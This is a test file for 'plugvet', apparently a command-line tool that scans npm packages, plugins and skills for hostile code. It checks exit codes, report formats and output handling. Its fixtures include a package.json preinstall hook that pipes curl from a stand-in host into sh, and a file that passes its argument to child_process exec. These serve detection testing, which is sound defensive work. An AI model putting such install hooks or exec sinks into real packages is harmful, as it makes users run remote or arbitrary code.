import { spawnSync } from 'node:child_process'
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { launcher, plugvet, scratch } from '../support/plugvet.ts'
import { readText, root } from '../support/repository.ts'

const { version } = JSON.parse(readText('package.json')) as { version: string }

const folderOf = (files: Readonly<Record<string, string>>): string => {
  const folder = scratch('target')
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, path)), { recursive: true })
    writeFileSync(join(folder, path), text)
  }
  return folder
}

const honest = { 'package.json': '{ "name": "tea-timer", "version": "1.2.0", "main": "index.js" }', 'index.js': 'exports.minutes = (grams) => grams / 2\n' }
const hostile = {
  'package.json': '{ "name": "tea-thief", "version": "0.0.1", "scripts": { "preinstall": "curl -s https://tea.example.invalid/brew.sh | sh" } }',
}

interface Json {
  verdict: string
  targets: { kind: string; path: string; name?: string; version?: string }[]
  findings: { ruleId: string; severity: string; file: string; target?: number }[]
  coverage: { files: { total: number; analysed: number; skipped: number } }
}

describe('plugvet', () => {
  it('says its version', () => {
    for (const flag of ['--version', '-V']) expect(plugvet([flag])).toEqual({ code: 0, stdout: `${version}\n`, stderr: '' })
  })

  it('prints help as payload, and complaints as one line beside it', () => {
    expect(plugvet(['--help'])).toMatchObject({ code: 0, stderr: '', stdout: expect.stringContaining('scan <path...>') })
    expect(plugvet(['scan', '--help'])).toMatchObject({ code: 0, stderr: '', stdout: expect.stringContaining('--min-confidence') })
    expect(plugvet([])).toEqual({ code: 2, stdout: '', stderr: 'plugvet: which command? `plugvet --help` lists them\n' })
    expect(plugvet(['scan', '.', '--fail-one=warn'])).toEqual({ code: 2, stdout: '', stderr: 'plugvet: unknown option --fail-one; did you mean --fail-on?\n' })
  })

  it('shows the words of a mistake without obeying them', () => {
    expect(plugvet(['scan', 'no\u001b[2Jwhere'])).toEqual({ code: 2, stdout: '', stderr: 'plugvet: there is no no\\u{1b}[2Jwhere\n' })
  })

  it('exits with 0 for honest code, 1 for evidence of harm, and as --fail-on asks', () => {
    const [good, bad] = [folderOf(honest), folderOf(hostile)]
    expect(plugvet(['scan', good])).toMatchObject({ code: 0, stderr: '' })
    expect(plugvet(['scan', bad])).toMatchObject({ code: 1, stderr: '', stdout: expect.stringContaining('brew.sh') })
    expect(plugvet(['scan', bad, '--fail-on', 'never']).code).toBe(0)
    expect(plugvet(['scan', good, bad]).code).toBe(1)
  })

  it('exits with 3 when something could not be analysed, unless that is allowed', () => {
    const folder = folderOf({ 'broken.tgz': 'no archive at all' })
    const args = ['scan', join(folder, 'broken.tgz'), '--json']
    const { code, stdout } = plugvet(args)
    expect((JSON.parse(stdout) as { coverage: { gaps: unknown[] } }).coverage.gaps).toHaveLength(1)
    expect(code).toBe(3)
    expect(plugvet([...args, '--allow-incomplete']).code).toBe(0)
  })

  it('prints nothing but the report, the same bytes whatever the number of threads', () => {
    const folder = folderOf({ ...hostile, 'lib/a.js': honest['index.js'], 'lib/b.ts': 'export const b: number = 1\n' })
    const runs = ['0', '1', '2'].map(jobs => plugvet(['scan', folder, '--json', '--jobs', jobs]))
    const [first] = runs
    expect(first).toMatchObject({ code: 1, stderr: '' })
    const report = JSON.parse(first?.stdout ?? '') as Json
    expect(report).toMatchObject({ schemaVersion: 1, verdict: 'block', targets: [{ kind: 'directory', name: 'tea-thief', version: '0.0.1' }] })
    const { total, analysed, skipped } = report.coverage.files
    expect(total).toBe(3)
    expect(analysed + skipped).toBe(total)
    expect(runs.map(run => run.stdout)).toEqual(runs.map(() => first?.stdout))
  })

  it('tells the files of several targets apart', () => {
    const parent = folderOf(Object.fromEntries(['one', 'two'].map(name => [`${name}/package.json`, hostile['package.json']])))
    const { targets, findings } = JSON.parse(plugvet(['scan', 'one', 'two', '--json'], { cwd: parent }).stdout) as Json
    expect(targets.map(({ path }) => path)).toEqual(['one', 'two'])
    const critical = findings.filter(({ severity }) => severity === 'critical')
    expect(new Set(critical.map(({ target, file }) => `${target} ${file}`))).toEqual(new Set(['0 package.json', '1 package.json']))
  })

  it('knows plugins and skills by what they declare', () => {
    const plugin = folderOf({ ...honest, 'openclaw.plugin.json': '{ "id": "tea-timer", "configSchema": {} }', 'package.json': '{ "name": "tea-timer", "openclaw": { "extensions": ["index.js"] } }' })
    const skill = folderOf({ 'SKILL.md': '---\nname: tea\ndescription: Makes tea.\n---\nBoil water.\n' })
    const { targets } = JSON.parse(plugvet(['scan', plugin, skill, '--json']).stdout) as Json
    expect(targets.map(({ kind, name }) => ({ kind, name }))).toEqual([{ kind: 'plugin', name: 'tea-timer' }, { kind: 'skill', name: 'tea' }])
  })

  it('reads a file that is named, whatever it is called', () => {
    const folder = folderOf({ tool: "require('child_process').exec(process.argv[2])\n", 'notes.txt': 'Buy tea.\n' })
    const scan = (name: string): Json => JSON.parse(plugvet(['scan', '--jobs', '0', join(folder, name), '--json']).stdout) as Json
    expect(scan('tool').findings.map(({ file }) => file)).toContain('tool')
    expect(scan('notes.txt').coverage.files).toMatchObject({ total: 1, analysed: 0, skipped: 1 })
  })

  it('writes to files instead of the screen, or as well', () => {
    const folder = folderOf(honest)
    const [moved, added] = [join(folder, 'moved.json'), join(folder, 'added=1.json')]
    expect(plugvet(['scan', '--jobs', '0', join(folder, 'index.js'), '--json', '--output', moved])).toEqual({ code: 0, stdout: '', stderr: '' })
    expect(plugvet(['scan', '--jobs', '0', join(folder, 'index.js'), '--output', `json=${added}`]).stdout).toContain('index.js')
    expect(readFileSync(added, 'utf8')).toBe(readFileSync(moved, 'utf8'))
    expect(plugvet(['scan', '--jobs', '0', folder, '--output', join(folder, 'no/such/folder')])).toMatchObject({ code: 2, stdout: '' })
  })

  it('says what the README shows', () => {
    const [, target = '', shown = ''] = /\$ plugvet scan (\S+)\n([^`]+)```/.exec(readText('README.md')) ?? []
    expect(shown).toMatch(/^BLOCK/)
    expect(plugvet(['scan', target]).stdout.slice(0, shown.length)).toBe(shown)
  })

  it('draws a scan, a review and an audit as a page', () => {
    const folder = folderOf(honest)
    const page = join(scratch('page'), 'report.html')
    expect(plugvet(['scan', '--jobs', '0', folder, '--output', `html=${page}`]).code).toBe(0)
    expect(readFileSync(page, 'utf8')).toMatch(/^<!doctype html>[^]*tea-timer 1\.2\.0[^]*<\/html>\n$/)
    expect(plugvet(['review', '--jobs', '0', folder, '--format', 'html']).stdout).toMatch(/^<!doctype html>[^]*runs nothing at install/)
    expect(plugvet(['audit', '--format', 'html']).stdout).toMatch(/^<!doctype html>[^]*Who reaches what/)
  })

  it('tells how long it took on request, and nobody else knows', () => {
    const folder = folderOf(honest)
    const [plain, timed] = [[], ['--stats']].map(more => JSON.parse(plugvet(['scan', '--jobs', '0', folder, '--json', ...more]).stdout) as { stats?: Record<string, number> })
    expect(plain).not.toHaveProperty('stats')
    expect(Object.values(timed?.stats ?? {}).length).toBeGreaterThan(3)
    expect(Object.values(timed?.stats ?? {}).every(value => value >= 0)).toBe(true)
  })

  it('colours on request and never into a pipe by itself', () => {
    const folder = folderOf(hostile)
    expect(plugvet(['scan', '--jobs', '0', folder]).stdout).not.toContain('\u001b[')
    expect(plugvet(['scan', '--jobs', '0', folder, '--color', 'always']).stdout).toContain('\u001b[')
    expect(plugvet(['scan', '--jobs', '0', folder], { env: { FORCE_COLOR: '1' } }).stdout).toContain('\u001b[')
    expect(plugvet(['scan', '--jobs', '0', folder], { env: { FORCE_COLOR: '1', NO_COLOR: '1' } }).stdout).not.toContain('\u001b[')
  })

  it.skipIf(process.platform === 'win32')('keeps quiet when its reader goes away', () => {
    const done = spawnSync('sh', ['-c', '"$0" "$1" rules --json | head -c 1', process.execPath, launcher], { encoding: 'utf8' })
    expect({ out: done.stdout, err: done.stderr }).toEqual({ out: '{', err: '' })
  })

  it.skipIf(process.platform === 'win32')('ends its threads and itself when interrupted', () => {
    const interrupt = `const timer = setInterval(() => { if (process.listenerCount('SIGINT')) { clearInterval(timer); process.kill(process.pid, 'SIGINT') } }, 1)`
    const done = spawnSync(process.execPath, ['--import', `data:text/javascript,${interrupt}`, launcher, 'scan', join(root, 'node_modules')], { encoding: 'utf8' })
    expect({ code: done.status, out: done.stdout, err: done.stderr }).toEqual({ code: 130, out: '', err: '' })
  })
})
